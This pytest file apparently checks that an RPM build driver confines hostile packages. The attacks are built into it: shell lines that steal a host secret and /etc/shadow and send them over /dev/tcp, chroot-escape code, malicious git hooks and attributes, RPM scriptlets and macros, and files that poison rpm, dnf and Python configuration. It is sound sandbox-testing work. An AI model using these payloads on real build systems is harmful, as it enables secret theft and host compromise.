# Copyright: rdo.releng contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile commits and distgits through the real build driver: nothing of the host is read, reached, killed or written.

Each package attacks at each step that runs something of it. What it learned it would leave on the host, in the files
that are published, or say over the network; the tests look there.
"""

from __future__ import annotations

import os
import pathlib
import shutil
import socket
import subprocess
import textwrap
import threading
import time

import pytest
from stage import builder
from stage.modules import run_module, run_playbook
from stage.trunk import DLRN

SECRET = "s3cr3t-of-the-host"
PASSWORD = "s3cr3t-of-ci"
SLEEP = "54340"
# Escapes a chroot in which one is root, as every book has it.
ESCAPE = """
import os
os.mkdir("/escaped"); os.chroot("/escaped")
for _ in range(64): os.chdir("..")
os.chroot(".")
print(open("{secret}").read())
"""


class Host:
    """What is attacked, and what is seen of it."""

    def __init__(self, folder: pathlib.Path) -> None:
        self.out = folder / "out"
        self.out.mkdir(mode=0o777)
        self.secret = folder / "secret"
        self.secret.write_text(SECRET)
        self.victim = subprocess.Popen(["sleep", "54339"])
        self.hits: list[bytes] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            connection, _address = self._server.accept()
            with connection:
                self.hits.append(connection.recv(1000) or b"connected")

    def attack(self, where: str) -> str:
        """Lines of shell that try everything, and go on whatever comes of it."""
        return textwrap.dedent(f"""\
            set +e
            (cat {self.secret} > {self.out}/{where}; cat {self.secret}; env; cat /etc/shadow) 2>/dev/null
            (cat /proc/[0-9]*/environ | tr '\\0' '\\n') 2>/dev/null
            (cat /proc/[0-9]*/root{self.secret}) 2>/dev/null
            (touch {self.out}/{where}-written) 2>/dev/null
            (exec 9<>/dev/tcp/127.0.0.1/{self.port} && echo {where} >&9) 2>/dev/null
            (kill -9 {self.victim.pid}) 2>/dev/null
            (setsid sleep {SLEEP} </dev/null >/dev/null 2>&1 &) 2>/dev/null
            (mount -t tmpfs x /mnt; mknod /tmp/sda b 8 0; dd if=/tmp/sda of=/tmp/copy bs=512 count=1) >/dev/null 2>&1
            (echo '|/bin/false' > /proc/sys/kernel/core_pattern) 2>/dev/null
            :""")

    def python(self, where: str) -> str:
        return "import subprocess\nsubprocess.run(['bash', '-c', " + repr(self.attack(where)) + "])\n"

    def is_untouched(self, *published: pathlib.Path) -> None:
        assert sorted(os.listdir(self.out)) == []
        assert self.hits == []
        assert self.victim.poll() is None
        left = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
        assert f"sleep {SLEEP}" not in left
        assert "/bin/false" not in pathlib.Path("/proc/sys/kernel/core_pattern").read_text()
        for folder in published:
            for path in folder.rglob("*"):
                if path.is_file():
                    content = path.read_bytes()
                    if path.suffix == ".rpm":
                        content += subprocess.run(
                            f"rpm2cpio '{path}'", shell=True, capture_output=True, check=False
                        ).stdout
                    assert SECRET.encode() not in content and PASSWORD.encode() not in content, path
                    assert not path.is_symlink() or not os.readlink(path).startswith(str(self.secret)), path


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    host = Host(tmp_path_factory.mktemp("host"))
    yield host
    host.victim.kill()
    host.victim.wait()


@pytest.fixture(scope="module")
def world(tmp_path_factory, base_repository):
    if not (DLRN / "bin" / "dlrn").exists():
        pytest.skip("DLRN is not installed in .build/dlrn: run make integration")
    return builder.World(tmp_path_factory.mktemp("hostile") / "w", base_repository)


SPEC = """\
{first}
Name: python-{name}
Version: 0
Release: 0
Summary: x
License: Apache-2.0
Source0: source.tar.gz
{head}
BuildArch: noarch
%description
x
%package -n python3-{name}
Summary: x
{requires}
%description -n python3-{name}
x
%prep
%setup -q -n {prefix}-%{{upstream_version}}
{prep}
%build
{build}
%install
install -D -m 644 {name}.py %{{buildroot}}/usr/share/{name}/{name}.py
{install}
%check
{check}
{scripts}
%files -n python3-{name}
/usr/share/{name}
{files}
"""
PARTS = ("first", "head", "requires", "prep", "build", "install", "check", "scripts", "files")


def spec(name, prefix=None, **parts):
    return SPEC.format(name=name, prefix=prefix or f"python-{name}", **{part: parts.get(part, "") for part in PARTS})


@pytest.fixture(scope="module")
def hostile(world, host, base_repository):
    """All of the packages below, built one after the other in one run; their rows by name."""
    packages = {}

    def add(name, distgit=lambda folder: None, upstream=lambda folder: None, **parts):
        world.add(name)
        upstream(world.folder / f"upstream/{name}")
        distgit(world.folder / f"distgit/python-{name}")
        world.change(name)
        text = parts.pop("spec", None) or spec(name, **parts)
        world._commit(f"distgit/python-{name}", "rpm-master", {f"python-{name}.spec": text})
        packages[name] = f"python-{name}"

    # Upstream's build backend.
    def backend(folder):
        (folder / "setup.py").write_text(
            host.python("setup") + "from setuptools import setup\n"
            "setup(name='python-backend', version='1.0', py_modules=['backend'])\n"
        )

    add("backend", upstream=backend, prefix="python_backend")

    # Git's own ways to run something, or to point elsewhere.
    def attributes(folder):
        (folder / ".gitattributes").write_text("* filter=evil diff=evil\n*.py export-subst\n")
        (folder / ".gitmodules").write_text(f'[submodule "x"]\n\tpath = x\n\turl = {host.secret.parent}\n')
        (folder / "hooks").mkdir()
        (folder / "hooks/post-checkout").write_text("#!/bin/bash\n" + host.attack("hook"))
        (folder / "hooks/post-checkout").chmod(0o755)
        (folder / "link").symlink_to(host.secret)

    add("git", upstream=attributes, build="cat link || :")

    # Everywhere in the spec.
    inline = host.attack("macro").replace("%", "%%").replace("\n", "; ")
    lua = f'%{{lua: local f = io.open("{host.secret}"); if f then print(f:read("*a")) end; os.execute([[{inline}]])}}'
    add(
        "spec",
        first=f"%global a %({inline})\n%global b {lua}",
        **{part: host.attack(part) for part in ("prep", "build", "install", "check")},
    )
    # Links of the distgit, of the results, and in place of the host's own files.
    add("distgitlink", distgit=lambda folder: (folder / "notes.txt").symlink_to(host.secret), head="Source1: notes.txt")
    add(
        "resultlink",
        build=f"mkdir -p /builddir/RPMS/noarch; ln -s {host.secret} /builddir/RPMS/noarch/python3-leak-1-1.noarch.rpm",
    )
    add("folderlink", build=f"mkdir -p /builddir/RPMS; ln -s {host.secret.parent} /builddir/RPMS/x86_64")
    add("pipe", build="mkdir -p /builddir/RPMS/noarch; mkfifo /builddir/RPMS/noarch/x-1-1.noarch.rpm")
    add("option", build="mkdir -p /builddir/RPMS/noarch; echo x > /builddir/RPMS/noarch/--help.rpm")
    add("twolines", build="mkdir -p /builddir/RPMS/noarch; echo x > /builddir/RPMS/noarch/$'a\\nb.rpm'")
    add(
        "text",
        build=f"mkdir -p /builddir/RPMS/noarch; echo {host.secret} > /builddir/RPMS/noarch/x-tests-1-1.noarch.rpm",
    )
    (ready,) = base_repository.rglob("stand-in-base-*.rpm")
    add(
        "renamed",
        distgit=lambda folder: shutil.copy(ready, folder / "ready"),
        head="Source1: ready",
        build="mkdir -p /builddir/RPMS/noarch; cp %{SOURCE1} /builddir/RPMS/noarch/openstack-keystone-99-1.noarch.rpm",
    )
    victims = f"{host.out}/victim"
    add(
        "plant",
        first=f"%global x %(for d in /tmp/out /tmp/top /tmp /builddir; do ln -sf {victims} $d/rpmbuild.log; "
        f"ln -sf {victims} $d/evil-1-1.noarch.rpm; ln -sf {victims} $d/x.src.rpm; done; :)",
    )
    # A hard link to what the build cannot write, and a file that would be root's.
    add("hardlink", build="ln /etc/passwd /builddir/hard || :; cp /bin/bash /builddir/su; chmod 6755 /builddir/su")
    # Scriptlets of what is installed as soon as it is built.
    scripts = "".join(
        f"%{kind} -n python3-scripts -p /usr/bin/bash\n{host.attack(kind)}\n" for kind in ("pre", "post", "posttrans")
    )
    scripts += (
        "%pretrans -n python3-scripts -p <lua>\n"
        f'local f = io.open("{host.secret}"); if f then print(f:read("*a")) end\n'
        "%triggerin -n python3-scripts -p /usr/bin/bash -- stand-in-base\n" + host.attack("trigger") + "\n"
    )
    add("scripts", scripts=scripts)
    add(
        "escape",
        scripts="%post -n python3-escape -p /usr/bin/bash\nperl -e 'mkdir q(/e); chroot q(/e); chdir q(..) for 1..64; "
        f"chroot q(.); open F, q(<{host.secret}); print <F>; open O, q(>{host.out}/escaped)' || python3 -c '\n"
        + ESCAPE.format(secret=host.secret)
        + "'\n:\n",
    )
    # What is installed before others are built: configuration for rpm, dnf, Python, the linker and bash.
    places = {
        "/usr/lib/rpm/macros.d/macros.evil": f"%dist %({inline}).el9\n",
        "/etc/dnf/vars/releasever": f"$(cat {host.secret})\n",
        "/etc/yum.repos.d/evil.repo": "[evil]\nname=evil\nbaseurl=file:///evil\n",
        "/usr/share/poison/sitecustomize.py": host.python("sitecustomize"),
    }
    lines = [
        f"mkdir -p %{{buildroot}}{os.path.dirname(path)}; cat > %{{buildroot}}{path} <<'EOF'\n"
        + content.replace("%", "%%")
        + "\nEOF"
        for path, content in places.items()
    ]
    add(
        "poison",
        install="\n".join(lines),
        files="\n".join(path for path in places if not path.startswith("/usr/share/poison")),
        requires="Provides: bash-of-mine\nObsoletes: bash-of-yours",
    )
    add("poisoned", head="BuildRequires: python3-poison, python3-scripts, python3-escape")

    setup = world.folder / "setup.yml"
    setup.write_text(world.playbook.read_text().split("    - name: Build what is new")[0])
    done = run_playbook(setup)
    assert done.returncode == 0, done.stdout
    result = run_module(
        "dlrn_build",
        environment={"DLRNAPI_PASSWORD": PASSWORD, "SSH_AUTH_SOCK": "/nonexistent"},
        **world.options(),
    )
    assert "commits" in result, result
    rows = {row["package"].removeprefix("python-"): row for row in result["commits"]}
    return {"rows": rows, "result": result}


def log(hostile, name):
    row = hostile["rows"][name]
    return pathlib.Path(row["logs"]["rpmbuild.log"]).read_text(errors="replace")


def test_nothing_of_the_host_is_touched_and_nothing_is_published(world, host, hostile):
    time.sleep(0.5)
    host.is_untouched(world.data / "repos")
    assert SECRET not in (world.folder / "dlrn.log").read_text(errors="replace")
    assert PASSWORD not in (world.folder / "dlrn.log").read_text(errors="replace")
    assert SECRET not in repr(hostile["result"]) and PASSWORD not in repr(hostile["result"])


@pytest.mark.parametrize("name", ["backend", "git", "spec", "hardlink", "scripts", "escape", "poison", "poisoned"])
def test_who_only_attacks_and_builds_is_built(hostile, name):
    assert hostile["rows"][name]["status"] == "SUCCESS", log(hostile, name)[-3000:]


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("distgitlink", "Links lead out of the distgit: notes.txt"),
        ("plant", "x.src.rpm is a link, not a regular file"),
        ("resultlink", "python3-leak-1-1.noarch.rpm is a link, not a regular file"),
        ("folderlink", "x86_64 is a link, where a folder was expected"),
        ("pipe", "is a named pipe"),
        ("option", "--help.rpm has a name that nobody would give"),
        ("twolines", "a\\nb.rpm has a name"),
        ("text", "x-tests-1-1.noarch.rpm is not an RPM file"),
        ("renamed", "openstack-keystone-99-1.noarch.rpm is the package stand-in-base-"),
    ],
)
def test_who_leaves_what_is_no_package_is_red_with_the_reason(hostile, name, reason):
    row = hostile["rows"][name]
    assert row["status"] == "FAILED" and reason in log(hostile, name)
    if name != "plant":  # whose own macros print what is the machine's fault elsewhere: it is tried again, three times
        assert row["failure"]["class"] == "packaging"
        assert any(reason in line for line in row["failure"]["lines"]), row["failure"]


def test_the_published_files_are_roots_own(world, hostile):
    for path in (world.data / "repos").rglob("*.rpm"):
        status = path.stat()
        assert (status.st_uid, status.st_mode & 0o7777) == (os.geteuid(), 0o644), path


@pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap is not installed")
def test_a_host_that_cannot_confine_builds_nothing(world, host, hostile, tmp_path):
    """Where bubblewrap is broken, the build is red, and says what the host needs."""
    programs = tmp_path / "bin"
    programs.mkdir()
    (programs / "bwrap").write_text("#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n")
    (programs / "bwrap").chmod(0o755)
    world.change("spec")
    result = run_module(
        "dlrn_build",
        environment={"PATH": f"{programs}:{os.environ['PATH']}"},
        **world.options(packages=["python-spec"]),
    )
    (row,) = result["commits"]
    assert row["status"] != "SUCCESS"
    text = pathlib.Path(row["logs"]["rpmbuild.log"]).read_text()
    assert "does not let strangers' programs be confined" in text
    host.is_untouched()
